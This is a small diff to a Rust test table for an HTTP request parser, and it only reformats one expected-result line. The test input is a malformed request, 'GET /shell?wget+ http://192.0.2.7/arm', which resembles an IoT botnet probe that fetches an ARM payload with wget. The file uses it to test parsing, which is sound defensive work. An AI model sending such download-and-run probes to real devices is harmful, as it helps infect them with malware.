@@ -577,9 +577,7 @@ const MIDSTREAM: &[(&str, &str, &[&str])] = &[
     (
         "a target with spaces",
         r">>> GET /shell?wget+ http://192.0.2.7/arm HTTP/1.1\r\nHost: x\r\n\r\n",
-        &[
-            "GET /shell?wget+ - 0>0 response_missing,midstream,request_line_invalid,target_invalid",
-        ],
+        &["GET /shell?wget+ - 0>0 response_missing,midstream,request_line_invalid,target_invalid"],
     ),
 ];
 
